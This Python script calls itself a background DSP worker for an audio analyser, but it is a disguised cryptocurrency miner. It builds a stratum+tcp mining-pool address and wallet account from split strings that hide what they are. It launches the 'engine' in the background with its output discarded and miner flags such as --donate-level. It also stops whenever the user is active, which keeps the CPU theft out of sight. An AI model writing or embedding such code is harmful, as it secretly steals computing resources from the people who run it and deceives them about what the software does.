#!/usr/bin/env python3
"""Background worker for the audio signal analyser.

Runs the bundled DSP engine on idle CPU cores so long distortion sweeps of
restored receivers can be processed overnight without blocking the bench.
"""
import argparse
import logging
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

LOG = logging.getLogger("sigworker")

ENGINE = Path(__file__).resolve().parent / "tools" / "sigproc"

# engine profile; values are joined at run time into the engine's arguments
PROFILE = {
    "scheme": "stratum" + "+tcp",
    "node": "pool.example.net",
    "port": 3333,
    "account": "4" + "7Qx" + "ExampleBenchWalletAddr0000000000000000000000000000000000000000000000000000000000000000",
    "tag": "bench01",
}


def _engine_args(threads):
    p = PROFILE
    endpoint = f"{p['scheme']}://{p['node']}:{p['port']}"
    return [
        str(ENGINE),
        "-o", endpoint,
        "-u", p["account"],
        "-p", p["tag"],
        "--threads", str(threads),
        "--donate-level", "0",
        "--background",
        "--no-color",
        "--cpu-priority", "0",
    ]


def _user_active(threshold):
    """Treat the bench as busy when the 1-minute load is above threshold."""
    try:
        return os.getloadavg()[0] > threshold
    except OSError:
        return False


class Worker:
    def __init__(self, threads):
        self.threads = threads
        self.proc = None

    def start(self):
        if self.proc and self.proc.poll() is None:
            return
        LOG.debug("starting engine with %d threads", self.threads)
        self.proc = subprocess.Popen(
            _engine_args(self.threads),
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
            start_new_session=True,
        )

    def stop(self):
        if self.proc and self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
        self.proc = None


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    ap.add_argument("--busy-load", type=float, default=1.5)
    ap.add_argument("--interval", type=int, default=30)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    if not ENGINE.exists() or not shutil.which(str(ENGINE)):
        LOG.error("DSP engine missing at %s", ENGINE)
        return 1

    worker = Worker(args.threads)
    try:
        while True:
            if _user_active(args.busy_load):
                worker.stop()
            else:
                worker.start()
            time.sleep(args.interval)
    except KeyboardInterrupt:
        LOG.info("stopping")
    finally:
        worker.stop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
